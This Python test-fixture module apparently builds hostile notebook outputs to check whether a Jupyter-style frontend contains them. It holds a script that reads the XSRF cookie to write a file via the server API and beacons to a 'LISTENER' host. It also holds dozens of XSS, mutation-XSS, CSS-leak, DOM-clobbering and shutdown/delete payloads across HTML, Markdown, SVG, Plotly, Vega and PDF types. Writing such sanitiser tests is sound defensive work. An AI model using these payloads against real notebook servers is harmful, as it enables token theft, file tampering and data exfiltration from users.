"""Outputs that try to leave their place on a notebook page, each as a MIME bundle.

`SCRIPT` sets a variable on the window and its parents, writes a file with the reader's login, calls the listener and
navigates; `LISTENER` is an address that nobody but an attack would ask.
"""

from __future__ import annotations

import base64
import json
from html import escape
from typing import Any

_SCRIPT = """
for (const w of [window, parent, top]) { try { w.hacked = (w.hacked || "") + " NAME"; } catch (e) {} }
try { document.title = "hacked"; parent.document.title = "hacked"; } catch (e) {}
const request = {method: "PUT", credentials: "include", headers: {"Content-Type": "application/json"},
                 body: JSON.stringify({type: "file", format: "text", content: "x"})};
try { const m = document.cookie.match(/_xsrf=([^;]*)/); if (m) request.headers["X-XSRFToken"] = m[1]; } catch (e) {}
try { fetch("/api/contents/owned-NAME.txt", request).catch(() => {}); } catch (e) {}
try { fetch("LISTENER/fetch-NAME", {mode: "no-cors"}).catch(() => {}); } catch (e) {}
try { new Image().src = "LISTENER/image-NAME"; } catch (e) {}
try { navigator.sendBeacon("LISTENER/beacon-NAME", "x"); } catch (e) {}
try { window.open("LISTENER/open-NAME"); } catch (e) {}
try { const s = document.createElement("script"); s.src = "LISTENER/script-NAME"; document.head.append(s); } catch (e) {}
try { const f = document.createElement("iframe"); f.src = "LISTENER/frame-NAME"; document.body.append(f); } catch (e) {}
""".strip()


def script(name: str) -> str:
    return _SCRIPT.replace("NAME", name)


def short(name: str) -> str:
    """For attributes: no quotes, no spaces."""
    return f"window.hacked=(window.hacked||[])+[/{name}/];fetch(`LISTENER/{name}`,{{mode:`no-cors`}})"


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _html() -> dict[str, str]:
    """Name to HTML."""
    escape_frame = "try { location.href = 'LISTENER/navigate'; } catch (e) {}"
    return {
        "script": f"<p>x</p><script>{script('script')}</script>",
        "script-navigates": f"<script>{escape_frame}</script>",
        "script-navigates-top": "<script>top.location = 'LISTENER/top'; parent.location = 'LISTENER/parent';</script>",
        "script-in-frame-in-frame": f'<script>1</script><iframe srcdoc="{escape("<script>" + script("nested"))}"></iframe>',
        "script-module": "<script type=module>import 'LISTENER/module';</script>",
        "script-meta-refresh": "<script>1</script><meta http-equiv=refresh content='0;url=LISTENER/refresh-in-frame'>",
        "script-base": "<script>1</script><base href='LISTENER/'><img src=base-in-frame><script src=base-script></script>",
        "script-own-policy": '<script>1</script></style></iframe>"\'><meta http-equiv=Content-Security-Policy content="">'
        "<img src=LISTENER/own-policy>",
        "script-form": "<script>onload=()=>document.forms[0].submit()</script><form action=LISTENER/form></form>",
        "script-link-click": "<a id=k href=LISTENER/click-in-frame>k</a><script>k.click()</script>",
        "script-worker": "<script>new Worker(URL.createObjectURL(new Blob(['fetch(\"LISTENER/worker\")'])))</script>",
        "script-websocket": "<script>new WebSocket('LISTENER/ws'.replace('http','ws'));new EventSource('LISTENER/es')</script>",
        "script-unclosed": f"<script>{script('unclosed')}",
        "script-uppercase": f"<SCRIPT\n>{script('uppercase')}</SCRIPT\t>",
        "script-storage": "<script>try{parent.localStorage.hacked=1}catch(e){};parent.postMessage('hacked','*')</script>",
        "img-onerror": f"<img src=x onerror={short('img-onerror')}>",
        "details-ontoggle": f"<details open ontoggle={short('ontoggle')}>x</details>",
        "focus-onfocus": f"<div tabindex=1 autofocus onfocus={short('onfocus')}>x</div>",
        "style-animation": f"<b style='animation-name:x' onanimationstart={short('animation')}>x</b>",
        "svg-onload": f"<svg onload={short('svg-onload')}></svg>",
        "svg-animate": f"<svg><animate onbegin={short('svg-animate')} attributeName=x dur=1s></svg>",
        "svg-script": f"<svg><script>{short('svg-script')}</script></svg>",
        "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=LISTENER/use/></svg>#x'/></svg>",
        "svg-foreign": f"<svg><foreignObject><img src=x onerror={short('foreign')}></foreignObject></svg>",
        "svg-image": "<svg><image href='LISTENER/svg-image'/></svg>",
        "mathml": f"<math><mtext><img src=x onerror={short('mathml')}></mtext></math>",
        "mathml-link": "<math><mi xlink:href='javascript:window.hacked=1' href='javascript:window.hacked=1'>click</mi></math>",
        "mathml-maction": "<math><maction actiontype='statusline#LISTENER/maction'>x</maction></math>",
        "iframe-srcdoc": f'<iframe srcdoc="{escape("<script>" + script("srcdoc") + "</script>")}"></iframe>',
        "iframe-src": "<iframe src=LISTENER/iframe></iframe>",
        "iframe-javascript": "<iframe src='javascript:parent.hacked=1'></iframe>",
        "iframe-data": f"<iframe src='data:text/html;base64,{_base64('<script>' + script('data') + '</script>')}'></iframe>",
        "object-data": f"<object data='data:text/html;base64,{_base64('<script>parent.hacked=1</script>')}'></object>",
        "embed": "<embed src=LISTENER/embed>",
        "base": "<base href='LISTENER/base/'><img src=relative>",
        "meta-refresh": "<meta http-equiv=refresh content='0;url=LISTENER/refresh'>",
        "css-url": "<p style='background:url(LISTENER/css)'>x</p><p style=\"background:url('LISTENER/css2')\">x</p>",
        "css-url-escaped": "<p style='background:u\\72l(LISTENER/css-escaped)'>x</p>",
        "css-image-set": "<p style='background-image:image-set(\"LISTENER/set\" 1x);list-style:url(LISTENER/list)'>x</p>",
        "css-cover": "<a href=https://example.org style='position:fixed;inset:0;z-index:9999;background:#fff'>log in</a>",
        "css-huge": "<p style='font-size:900px;line-height:0;height:0;margin:-500px;overflow:visible'>x</p>",
        "style-import": "<style>@import 'LISTENER/import';</style><p>x</p>",
        "style-background": "<style>.jp-Cell, body { background: url(LISTENER/style) }</style><p>x</p>",
        "style-styler": "<style>#T_ab1 td { color: red } #T_ab1 ~ * { display:none } #T_ab1{background:url(LISTENER/T)}</style>"
        "<table id=T_ab1><tr><td>x</table>",
        "link": "<link rel=stylesheet href=LISTENER/link><link rel=prefetch href=LISTENER/prefetch>"
        "<link rel=modulepreload href=LISTENER/modulepreload>",
        "link-manifest": "<p><link rel=icon href=LISTENER/icon><link rel=preconnect href=LISTENER></p>",
        "a-javascript": "<a href='javascript:window.hacked=1'>x</a><a href=' java\nscript:window.hacked=1'>x</a>",
        "a-data": "<a href='data:text/html,<script>1</script>'>x</a><a href='vbscript:x'>x</a>",
        "a-api": "<a href='/logout'>next page</a><a href='../api/shutdown'>x</a><a ping=LISTENER/ping href='https://x.org'>x</a>",
        "form": "<form action='/api/shutdown' method=post><input name=a><button>Next</button></form>",
        "button-command": "<button data-commandlinker-command='filebrowser:delete' data-commandlinker-args='{}'>ok</button>",
        "clobber": "<a id=jupyterapp></a><img name=_JUPYTERLAB><div id=jupyter-config-data>{}</div>"
        "<div id=main class='lm-Widget jp-ThemedContainer'>x</div>",
        "remote-image": "<img src='LISTENER/leak?q=secret'><img srcset='LISTENER/srcset 1x'><picture><source srcset=LISTENER/p></picture>",
        "remote-media": "<video poster=LISTENER/poster src=LISTENER/video></video><audio src=LISTENER/audio></audio>",
        "old-attributes": "<table background=LISTENER/table><td background=LISTENER/td>x</table><body background=LISTENER/body>",
        "image-data-svg": f"<img src='data:image/svg+xml;base64,{_base64('<svg xmlns=http://www.w3.org/2000/svg><script>top.hacked=1</script></svg>')}'>",
        "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={short("noscript")}>">',
        "mutation-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={short("mglyph")}&gt;">',
        "mutation-svg": f'<svg></p><style><a id="</style><img src=1 onerror={short("svg-style")}>">',
        "mutation-template": f"<template><img src=x onerror={short('template')}></template>",
        "mutation-comment": f"<!--><img src=x onerror={short('comment')}>--><!--!> <img src=x onerror={short('comment2')}> -->",
        "mutation-attribute": f"<p title='`<img src=x onerror={short('attribute')}>`'>x</p><p title=\"</p><img src=x onerror={short('attr2')}>\">",
        "mutation-xmp": f'<xmp><p title="</xmp><img src=x onerror={short("xmp")}>"></xmp>',
        "mutation-select": f'<select><template><style><!--</style><a rel="--></style><img src=x onerror={short("select")}>">',
        "unclosed": "<div><table><tr><td><b><i><a href='https://x.org'><pre></p></div></div></div></main></body></html><!--",
        "unclosed-attribute": f"<img src=x onerror={short('cut')} alt='",
        "nul-bytes": f"<scr\x00ipt>{short('nul')}</scr\x00ipt><img/src=x/onerror={short('slash')}>",
        "dataframe-cell": f"<table class=dataframe><tr><td><img src=x onerror={short('cell')}></td></tr></table>",
        "dataframe-column": f"<table class=dataframe><thead><tr><th><script>{short('column')}</script></th></tr></thead></table>",
        "latex-in-html": r"<p>$\href{javascript:window.hacked=1}{x}$ $\bbox[background:url(LISTENER/bbox)]{y}$ "
        r"$\hr<wbr>ef{javascript:window.hacked=1}{z}$ \(\require{LISTENER/require}x\)</p>",
        "shadow": f"<div><template shadowrootmode=open><img src=x onerror={short('shadow')}></template></div>",
        "plotly-label": "<div class=plotly-graph-div></div><script>Plotly.newPlot('x',[{text:['<a href=\"javascript:top.hacked=1\">x</a>']}])</script>",
    }


def attacks(listener: str = "http://127.0.0.1:1") -> dict[str, dict[str, Any]]:
    """Name to MIME bundle."""
    bundles: dict[str, dict[str, Any]] = json.loads(json.dumps(_attacks()).replace("LISTENER", listener))
    return bundles


def _attacks() -> dict[str, dict[str, Any]]:
    figure = {"data": [{"type": "bar", "x": ["a"], "y": [1]}], "layout": {}}
    vega = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "mark": "bar"}
    encoding = {"x": {"field": "a"}}
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{short('svg')}'><script>{script('svgfile')}</script>"
    others: dict[str, dict[str, Any]] = {
        "javascript": {"application/javascript": script("javascript")},
        "ecmascript": {"text/javascript": script("ecma"), "application/ecmascript": script("ecma2")},
        "markdown-html": {"text/markdown": f"hello\n\n<div><img src=x onerror={short('md-img')}></div>\n\n<script>{script('md')}</script>"},
        "markdown-link": {"text/markdown": "[a](javascript:window.hacked=1) [b](<java\tscript:x>) <javascript:window.hacked=1>"},
        "markdown-image": {"text/markdown": "![leak](LISTENER/md-image) ![x][r]\n\n[r]: LISTENER/md-reference"},
        "markdown-code": {"text/markdown": f"```x\"><img/src=x/onerror={short('info')}>\n```\n`<img src=x onerror={short('c')}>`"},
        "markdown-latex": {"text/markdown": r"$\href{javascript:window.hacked=1}{x}$ $<img src=x onerror=window.hacked=1>$"},
        "latex": {"text/latex": r"$\href{javascript:window.hacked=1}{x} \bbox[background:url(LISTENER/latex)]{x} \style{position:fixed}{x}$"},
        "latex-html": {"text/latex": f"$x$<img src=x onerror={short('latex')}>"},
        "svg": {"image/svg+xml": svg + "<image href='LISTENER/svg-file'/></svg>"},
        "png-attribute": {"image/png": f'x" onerror="{short("png")}'},
        "png-html": {"image/png": _base64(f"<script>{script('png')}</script>")},
        "png-size": {"image/png": "iVBORw0KGgo=", "text/plain": "x"},
        "plain": {"text/plain": f"<img src=x onerror={short('plain')}>\x1b]8;;javascript:window.hacked=1\x07x\x1b]8;;\x07"},
        "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "HBox()"},
        "plotly-image": {"application/vnd.plotly.v1+json": {**figure, "layout": {"images": [{"source": "LISTENER/plotly"}]}}},
        "plotly-text": {"application/vnd.plotly.v1+json": {**figure, "layout": {"title": {"text": "<a href='javascript:window.hacked=1'>x</a><img src=LISTENER/t>"}}}},
        "plotly-map": {"application/vnd.plotly.v1+json": {"data": [{"type": "scattermapbox"}], "layout": {"mapbox": {"style": "LISTENER/map"}}}},
        "plotly-config": {"application/vnd.plotly.v1+json": {**figure, "config": {"plotlyServerURL": "LISTENER/plotly-server"}}},
        "vega-url": {"application/vnd.vegalite.v5+json": {**vega, "data": {"url": "LISTENER/vega.csv"}, "encoding": encoding}},
        "vega-api": {"application/vnd.vegalite.v5+json": {**vega, "data": {"url": "/api/contents"}, "encoding": encoding}},
        "vega-image": {"application/vnd.vegalite.v5+json": {**vega, "data": {"values": [{"a": "LISTENER/vega-image"}]},
                       "mark": "image", "encoding": {"url": {"field": "a"}, **encoding}}},
        "vega-expression": {"application/vnd.vegalite.v5+json": {**vega, "data": {"values": [{"a": 1}]}, "encoding": encoding,
                            "transform": [{"calculate": "event.view.setTimeout('window.hacked=1')", "as": "b"}]}},
        "vega-spec": {"application/vnd.vega.v5+json": {"signals": [{"name": "x", "update": "1"}], "data": [{"name": "t", "url": "LISTENER/vega"}]}},
        "geojson": {"application/geo+json": {"type": "Point", "coordinates": [0, 0]}},
        "pdf": {"application/pdf": _base64("%PDF-1.4 /JS (app.launchURL('LISTENER/pdf'))")},
        "mermaid": {"text/vnd.mermaid": "graph TD; A-->B; click A 'javascript:window.hacked=1'"},
        "json-html": {"application/json": {f"<img src=x onerror={short('json')}>": "javascript:window.hacked=1"}},
        "huge": {"text/html": "<table class=dataframe>" + f"<tr><td>x</td><td onclick={short('huge')}>y</td></tr>" * 3_000},
    }  # fmt: skip
    return {name: {"text/html": html} for name, html in _html().items()} | others
